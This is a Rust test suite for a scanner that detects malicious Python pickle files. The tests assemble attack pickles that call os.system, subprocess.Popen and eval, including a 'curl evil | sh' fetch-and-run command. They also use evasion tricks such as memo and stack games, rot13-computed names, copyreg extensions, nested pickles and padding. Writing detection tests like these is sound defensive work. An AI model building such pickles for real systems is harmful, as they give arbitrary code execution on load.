use super::opcodes as op;
use crate::{Completeness, Format, Report, ScanOptions, Verdict, scan};
use picket_bounded::Limits;
use proptest::prelude::*;

/// Opcodes for the tests of formats that hold pickles.
pub(crate) use super::opcodes as codes;

/// Writes pickles an opcode at a time.
#[derive(Clone, Default)]
pub(crate) struct Asm(Vec<u8>);

impl Asm {
    pub(crate) fn new(protocol: u8) -> Self {
        Self(if protocol < 2 { Vec::new() } else { vec![op::PROTO, protocol] })
    }
    pub(crate) fn op(mut self, code: u8) -> Self {
        self.0.push(code);
        self
    }
    pub(crate) fn raw(mut self, bytes: impl AsRef<[u8]>) -> Self {
        self.0.extend_from_slice(bytes.as_ref());
        self
    }
    pub(crate) fn text(self, text: &str) -> Self {
        self.op(op::BINUNICODE).raw(u32::try_from(text.len()).unwrap().to_le_bytes()).raw(text)
    }
    pub(crate) fn bytes(self, bytes: &[u8]) -> Self {
        self.op(op::BINBYTES).raw(u32::try_from(bytes.len()).unwrap().to_le_bytes()).raw(bytes)
    }
    pub(crate) fn int(self, number: i32) -> Self {
        self.op(op::BININT).raw(number.to_le_bytes())
    }
    pub(crate) fn global(self, module: &str, name: &str) -> Self {
        self.op(op::GLOBAL).raw(format!("{module}\n{name}\n"))
    }
    pub(crate) fn stack_global(self, module: &str, name: &str) -> Self {
        self.text(module).text(name).op(op::STACK_GLOBAL)
    }
    pub(crate) fn ops(self, codes: &[u8]) -> Self {
        self.raw(codes)
    }
    /// `os.system('id')`
    pub(crate) fn payload(self) -> Self {
        self.global("os", "system").text("id").ops(&[op::TUPLE1, op::REDUCE])
    }
    pub(crate) fn stop(self) -> Vec<u8> {
        self.op(op::STOP).0
    }
    /// Without STOP, to stand inside another.
    pub(crate) fn open(self) -> Vec<u8> {
        self.0
    }
}

pub(crate) fn benign() -> Vec<u8> {
    Asm::new(2).global("collections", "OrderedDict").ops(&[op::EMPTY_TUPLE, op::REDUCE]).stop()
}

fn scanned(bytes: &[u8]) -> Report {
    scan(&bytes, "model.pkl", &ScanOptions::default())
}

#[track_caller]
fn judged(bytes: &[u8], verdict: Verdict, rule: &str) -> Report {
    let report = scanned(bytes);
    assert_eq!(report.verdict, verdict, "{report:#?}");
    assert!(report.findings.iter().any(|finding| finding.rule_id == rule), "{rule} is missing in {report:#?}");
    report
}

#[track_caller]
fn malicious(bytes: &[u8]) -> Report {
    judged(bytes, Verdict::Malicious, "PICKET-PKL-001")
}

#[track_caller]
fn clean(bytes: &[u8]) -> Report {
    let report = scanned(bytes);
    assert_eq!((report.verdict, report.completeness), (Verdict::Clean, Completeness::Full), "{report:#?}");
    report
}

#[test]
fn a_plain_call_is_shown_with_its_arguments_place_and_opcode() {
    let report = malicious(&Asm::new(4).stack_global("os", "system").text("curl evil | sh").ops(&[op::TUPLE1, op::REDUCE]).stop());
    let finding = &report.findings[0];
    assert_eq!(finding.evidence.value.as_deref(), Some("os.system('curl evil | sh')"));
    assert_eq!(finding.evidence.opcode.as_deref(), Some("REDUCE"));
    assert_eq!(finding.evidence.offset, Some(2 + 7 + 11 + 1 + 19 + 1));
    assert!(finding.explanation.contains("runs commands"), "{}", finding.explanation);
    assert_eq!((finding.severity_id, report.format), (5, Format::Pickle));
    assert!(finding.techniques.contains(&"T1059.006"));
}

#[test]
fn every_way_to_import_and_call() {
    malicious(b"cos\nsystem\n(S'id'\ntR.");
    malicious(b"cos\nsystem\n(S'\\x69d' \ntR.");
    malicious(b"(S'id'\nios\nsystem\n.");
    malicious(&Asm::new(1).op(op::MARK).global("os", "system").text("id").ops(&[op::OBJ]).stop());
    malicious(&Asm::new(2).global("os", "system").text("id").ops(&[op::TUPLE1, op::NEWOBJ]).stop());
    malicious(&Asm::new(4).global("os", "system").text("id").ops(&[op::TUPLE1, op::EMPTY_DICT, op::NEWOBJ_EX]).stop());
    malicious(&Asm::new(4).op(op::UNICODE).raw("o\\u0073\n").text("system").op(op::STACK_GLOBAL).text("id").ops(&[op::TUPLE1, op::REDUCE]).stop());
    malicious(&Asm::new(0).global("__builtin__", "eval").text("1").ops(&[op::TUPLE1, op::REDUCE]).stop());
    malicious(&Asm::new(0).global("copy_reg", "_reconstructor").ops(&[op::MARK]).global("subprocess", "Popen").text("id").ops(&[op::TUPLE, op::REDUCE]).stop());
}

#[test]
fn invisible_results_still_ran() {
    malicious(&Asm::new(4).op(op::MARK).stack_global("smtplib", "SMTP").text("evil:25").ops(&[op::OBJ, op::POP, op::NONE]).stop());
    malicious(&Asm::new(2).op(op::MARK).payload().ops(&[op::POP_MARK, op::NONE]).stop());
    malicious(&Asm::new(2).payload().ops(&[op::POP, op::NONE]).stop());
}

#[test]
fn names_through_memo_and_stack_tricks() {
    let memoize_after_pop = Asm::new(4).text("os").text("x").ops(&[op::POP, op::MEMOIZE, op::POP]).text("system").ops(&[
        op::MEMOIZE,
        op::POP,
        op::BINGET,
        0,
        op::BINGET,
        1,
        op::STACK_GLOBAL,
    ]);
    malicious(&memoize_after_pop.text("id").ops(&[op::TUPLE1, op::REDUCE]).stop());
    let twice = Asm::new(4).text("os").ops(&[op::MEMOIZE, op::MEMOIZE, op::POP, op::BINGET, 1]).text("system").op(op::STACK_GLOBAL);
    malicious(&twice.text("id").ops(&[op::TUPLE1, op::REDUCE]).stop());
    let overwritten = Asm::new(4)
        .text("collections")
        .ops(&[op::BINPUT, 0, op::POP])
        .text("os")
        .ops(&[op::BINPUT, 0, op::POP, op::BINGET, 0])
        .text("system")
        .op(op::STACK_GLOBAL);
    malicious(&overwritten.text("id").ops(&[op::TUPLE1, op::REDUCE]).stop());
    let dup = Asm::new(4).text("os").text("system").ops(&[op::DUP, op::POP, op::STACK_GLOBAL]);
    malicious(&dup.text("id").ops(&[op::TUPLE1, op::REDUCE]).stop());
    let long = Asm::new(4).text("os").op(op::LONG_BINPUT).raw(70_000_u32.to_le_bytes()).ops(&[op::POP]).raw("g70000\n").text("system").op(op::STACK_GLOBAL);
    malicious(&long.text("id").ops(&[op::TUPLE1, op::REDUCE]).stop());
}

#[test]
fn computed_names_are_malicious() {
    let rot13 = Asm::new(4).global("_codecs", "decode").text("bf").text("rot13").ops(&[op::TUPLE2, op::REDUCE]).text("system").op(op::STACK_GLOBAL);
    judged(&rot13.text("id").ops(&[op::TUPLE1, op::REDUCE]).stop(), Verdict::Malicious, "PICKET-PKL-005");
    let computed = Asm::new(4).global("builtins", "getattr").global("collections", "OrderedDict").op(op::NONE).ops(&[op::TUPLE2, op::REDUCE]);
    judged(&computed.stop(), Verdict::Malicious, "PICKET-PKL-005");
}

#[test]
fn dotted_names_lead_anywhere() {
    for (module, name) in
        [("random", "_os.system"), ("torch.serialization", "os.system"), ("collections", "_sys.modules.get"), ("torch.nn.modules.module", "torch.os.system")]
    {
        malicious(&Asm::new(4).stack_global(module, name).text("id").ops(&[op::TUPLE1, op::REDUCE]).stop());
    }
    // getattr of a harmless class is the same walk.
    let walk = Asm::new(4).global("builtins", "getattr").global("random", "Random").text("_os").ops(&[op::TUPLE2, op::REDUCE]);
    let walk = Asm(Asm::new(4).global("builtins", "getattr").raw(&walk.0[2..]).text("system").ops(&[op::TUPLE2, op::REDUCE]).0);
    malicious(&walk.text("id").ops(&[op::TUPLE1, op::REDUCE]).stop());
}

#[test]
fn the_extension_registry() {
    let register = Asm::new(2).global("copyreg", "add_extension").text("os").text("system").int(0xf0).ops(&[op::TUPLE3, op::REDUCE, op::POP]);
    let report = malicious(&register.ops(&[op::EXT1, 0xf0]).text("id").ops(&[op::TUPLE1, op::REDUCE]).stop());
    assert!(report.findings.iter().any(|finding| finding.evidence.value.as_deref() == Some("os.system('id')")), "{report:#?}");
    judged(&Asm::new(2).ops(&[op::EXT2, 1, 0]).stop(), Verdict::Suspicious, "PICKET-PKL-010");
}

#[test]
fn state_and_attributes() {
    let setstate =
        Asm::new(4).global("types", "SimpleNamespace").ops(&[op::EMPTY_TUPLE, op::NEWOBJ, op::EMPTY_DICT]).text("__setstate__").global("os", "system");
    let setstate = setstate.ops(&[op::SETITEM, op::BUILD]).text("id").op(op::BUILD).stop();
    judged(&setstate, Verdict::Malicious, "PICKET-PKL-006");
    // Replacing an attribute of a class for the whole process.
    let shadow = Asm::new(4)
        .global("torch.nn.modules.linear", "Linear")
        .op(op::EMPTY_DICT)
        .text("forward")
        .global("builtins", "print")
        .ops(&[op::SETITEM, op::BUILD])
        .stop();
    judged(&shadow, Verdict::Malicious, "PICKET-PKL-006");
    let item = Asm::new(4).global("torch", "FloatStorage").text("k").text("v").op(op::SETITEM).stop();
    judged(&item, Verdict::Malicious, "PICKET-PKL-006");
    let plain = Asm::new(4)
        .global("types", "SimpleNamespace")
        .ops(&[op::EMPTY_TUPLE, op::NEWOBJ, op::EMPTY_DICT])
        .text("a")
        .op(op::NONE)
        .ops(&[op::SETITEM, op::BUILD])
        .stop();
    clean(&plain);
}

#[test]
fn calls_of_results_and_of_their_arguments() {
    let partial =
        Asm::new(4).global("functools", "partial").global("os", "system").text("id").ops(&[op::TUPLE2, op::REDUCE, op::EMPTY_TUPLE, op::REDUCE]).stop();
    malicious(&partial);
    let rebuilt =
        Asm::new(4).global("torch._tensor", "_rebuild_from_type_v2").global("os", "system").global("torch", "Tensor").text("id").op(op::TUPLE1).op(op::NONE);
    let rebuilt = Asm(rebuilt.0).raw([op::TUPLE3]).stop();
    // Four arguments need a mark; with three on the stack the tuple is short and nothing is called.
    assert_ne!(scanned(&rebuilt).verdict, Verdict::Clean);
    let rebuilt = Asm::new(4).global("torch._tensor", "_rebuild_from_type_v2").op(op::MARK).global("os", "system").global("torch", "Tensor").text("id").ops(&[
        op::TUPLE1,
        op::NONE,
        op::TUPLE,
        op::REDUCE,
    ]);
    malicious(&rebuilt.stop());
    let dynamic = Asm::new(4).global("collections", "OrderedDict").ops(&[op::EMPTY_TUPLE, op::REDUCE, op::EMPTY_TUPLE, op::REDUCE]).stop();
    judged(&dynamic, Verdict::Suspicious, "PICKET-PKL-007");
    // A tower of map(map, map(…)) ends.
    let mut tower = Asm::new(4).global("builtins", "map").op(op::MARK);
    for _ in 0..10_000 {
        tower = tower.global("builtins", "map");
    }
    let report = scanned(&tower.ops(&[op::TUPLE, op::REDUCE]).stop());
    assert_eq!(report.verdict, Verdict::Suspicious, "{report:#?}");
}

#[test]
fn pickles_in_pickles() {
    let inner = Asm::new(2).payload().stop();
    let loads = Asm::new(4).global("pickle", "loads").bytes(&inner).ops(&[op::TUPLE1, op::REDUCE]).stop();
    malicious(&loads);
    let torch = Asm::new(4).global("torch.storage", "_load_from_bytes").bytes(&inner).ops(&[op::TUPLE1, op::REDUCE]).stop();
    let report = malicious(&torch);
    assert!(report.findings.iter().any(|finding| finding.evidence.member.starts_with("bytes@")), "{report:#?}");
    let harmless = Asm::new(4).global("torch.storage", "_load_from_bytes").bytes(&benign()).ops(&[op::TUPLE1, op::REDUCE]).stop();
    clean(&harmless);
    let kept = Asm::new(4).bytes(&inner).stop();
    judged(&kept, Verdict::Suspicious, "PICKET-PKL-011");
    // Bytes that only begin like a pickle are data.
    let data = Asm::new(4).bytes(b"\x80\x04not a pickle at all.").stop();
    clean(&data);
}

#[test]
fn stacked_broken_and_truncated_streams() {
    let mut stacked: Vec<u8> = (0..20).flat_map(|_| benign()).collect();
    clean(&stacked);
    stacked.extend(Asm::new(2).payload().stop());
    malicious(&stacked);
    malicious(&Asm::new(2).payload().op(0xff).stop());
    malicious(&Asm::new(2).payload().op(op::BINBYTES).raw([0xff, 0xff, 0xff, 0x7f]).0);
    judged(&Asm::new(2).payload().0, Verdict::Malicious, "PICKET-PKL-008");
    let mut trailing = benign();
    trailing.extend(std::iter::repeat_n(b'x', 200));
    judged(&trailing, Verdict::Suspicious, "PICKET-FMT-001");
}

#[test]
fn padding_does_not_hide_a_payload() {
    let mut padded = Asm::new(2);
    for _ in 0..600_000 {
        padded.0.extend_from_slice(&[op::NONE, op::POP]);
    }
    malicious(&padded.payload().stop());
    // Protocol 0 has no magic, so the same must hold for detection.
    let mut text = Asm::new(0);
    for _ in 0..100_000 {
        text.0.extend_from_slice(&[op::NONE, op::POP]);
    }
    malicious(&text.payload().stop());
}

#[test]
fn frames() {
    let straddle = Asm::new(4).op(op::FRAME).raw(2_u64.to_le_bytes()).bytes(&[b'a'; 0x107]).stop();
    judged(&straddle, Verdict::Malicious, "PICKET-PKL-009");
    let nested = Asm::new(4).op(op::FRAME).raw(11_u64.to_le_bytes()).op(op::FRAME).raw(2_u64.to_le_bytes()).ops(&[op::NONE, op::STOP]);
    judged(&nested.0, Verdict::Malicious, "PICKET-PKL-009");
    let honest = Asm::new(4).op(op::FRAME).raw(2_u64.to_le_bytes()).ops(&[op::NONE, op::STOP]);
    clean(&honest.0);
}

#[test]
fn unknown_imports_are_suspicious_not_malicious() {
    let report = judged(&Asm::new(4).global("__main__", "Net").ops(&[op::EMPTY_TUPLE, op::NEWOBJ]).stop(), Verdict::Suspicious, "PICKET-PKL-004");
    assert_eq!(report.findings.len(), 1, "{report:#?}");
    let reference = Asm::new(4).global("os", "system").stop();
    judged(&reference, Verdict::Malicious, "PICKET-PKL-002");
}

#[test]
fn what_frameworks_write_is_clean() {
    clean(&benign());
    let storage = Asm::new(2).op(op::MARK).text("storage").global("torch", "FloatStorage").text("0").text("cpu").int(4).ops(&[op::TUPLE, op::BINPERSID]);
    let tensor = Asm::new(2)
        .global("torch._utils", "_rebuild_tensor_v2")
        .op(op::MARK)
        .raw(&storage.0[2..])
        .int(0)
        .int(4)
        .op(op::TUPLE1)
        .int(1)
        .op(op::TUPLE1)
        .op(op::NEWFALSE);
    let tensor = tensor.global("collections", "OrderedDict").ops(&[op::EMPTY_TUPLE, op::REDUCE, op::TUPLE, op::REDUCE]).stop();
    clean(&tensor);
    let latin = Asm::new(2).global("_codecs", "encode").text("abc").text("latin1").ops(&[op::TUPLE2, op::REDUCE]).stop();
    clean(&latin);
    clean(b"(lp0\nI1\naI01\naF1.5\naS'it'\np1\naVtext\np2\nag1\na(dp3\nS'k'\nL10L\ns.");
}

#[test]
fn enumerations_of_training_arguments_are_data() {
    let value = |module: &str, name: &str| Asm::new(2).global(module, name).text("steps").ops(&[op::TUPLE1, op::REDUCE]).stop();
    clean(&value("transformers.trainer_utils", "IntervalStrategy"));
    clean(&value("accelerate.utils.dataclasses", "DistributedType"));
    // The near miss: a class of the same framework that takes a path.
    judged(&value("transformers.models.bert", "BertTokenizer"), Verdict::Suspicious, "PICKET-PKL-004");
    judged(&value("signal", "signal"), Verdict::Malicious, "PICKET-PKL-001");
}

#[test]
fn text_is_not_a_pickle() {
    for text in ["class foo\nbar\n", "cos\n", "import os\n", "N", "I am a text.\n", "(a, b)."] {
        let report = scanned(text.as_bytes());
        assert_ne!(report.format, Format::Pickle, "{text:?} {report:#?}");
    }
}

#[test]
fn limits_end_in_partial() {
    let mut deep = Asm::new(2);
    deep.0.extend(std::iter::repeat_n(op::MARK, 2_000_000));
    let report = scanned(&deep.stop());
    assert_eq!((report.verdict, report.completeness), (Verdict::Unscannable, Completeness::Partial), "{report:#?}");
    let options = ScanOptions { limits: Limits { steps: 100_000, ..Limits::default() }, ..ScanOptions::default() };
    let mut long = Asm::new(2);
    long.0.extend([op::NONE, op::POP].repeat(200_000));
    let long = long.stop();
    assert_eq!(scan(&long.as_slice(), "x", &options).verdict, Verdict::Unscannable);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn any_bytes_end(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        scanned(&[&[0x80, 4][..], &bytes].concat());
        scanned(&bytes);
    }

    /// Opcodes in any order reach deeper than random bytes.
    #[test]
    fn any_program_ends(steps in proptest::collection::vec((0_usize..40, any::<u8>()), 0..300)) {
        let mut asm = Asm::new(4);
        for (kind, byte) in steps {
            asm = match kind {
                0 => asm.text("os"),
                1 => asm.global("builtins", "getattr"),
                2 => asm.global("joblib.numpy_pickle", "NumpyArrayWrapper"),
                3 => asm.bytes(b"\x80\x04N."),
                4 => asm.ops(&[op::BINPUT, byte % 8]),
                5 => asm.ops(&[op::BINGET, byte % 8]),
                6 => asm.global("functools", "partial"),
                7 => asm.ops(&[op::EXT1, byte]),
                8 => asm.global("copyreg", "add_extension"),
                9 => asm.op(op::FRAME).raw(u64::from(byte).to_le_bytes()),
                kind => asm.op([
                    op::MARK, op::POP, op::POP_MARK, op::DUP, op::NONE, op::REDUCE, op::NEWOBJ, op::NEWOBJ_EX, op::OBJ, op::BUILD, op::TUPLE, op::TUPLE1, op::TUPLE2, op::TUPLE3, op::EMPTY_DICT,
                    op::EMPTY_LIST, op::EMPTY_TUPLE, op::SETITEM, op::SETITEMS, op::APPEND, op::APPENDS, op::ADDITEMS, op::MEMOIZE, op::STACK_GLOBAL, op::BINPERSID, op::FROZENSET, op::DICT, op::LIST, op::NEXT_BUFFER, op::STOP,
                ][kind - 10]),
            };
        }
        scanned(&asm.stop());
    }
}
